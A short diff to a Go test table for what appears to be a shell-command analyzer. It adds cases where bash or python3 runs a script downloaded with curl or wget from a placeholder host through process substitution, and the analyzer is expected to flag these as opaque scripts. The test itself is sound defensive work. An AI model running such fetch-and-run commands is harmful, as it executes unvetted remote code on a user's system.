@@ -140,6 +140,12 @@ var analyzeTests = []struct {
 		c(`sh -c echo "`, args("-c", `echo "`), opaque(OpaqueInvalidScript)),
 	}},
 	{"script file", "bash ./build.sh", "", []Command{c("bash ./build.sh")}},
+	{"process substitution script", "bash <(curl -s https://x/i.sh)", "", []Command{
+		c("bash <(curl -s https://x/i.sh)", args("<(curl -s https://x/i.sh)"), opaque(OpaqueSubstScript)), c("curl -s https://x/i.sh", via("$()")),
+	}},
+	{"python process substitution", "python3 <(wget -qO- x)", "", []Command{
+		c("python3 <(wget -qO- x)", args("<(wget -qO- x)"), opaque(OpaqueSubstScript)), c("wget -qO- x", via("$()")),
+	}},
 	{"interactive shell", "bash", "", []Command{c("bash")}},
 
 	// find.
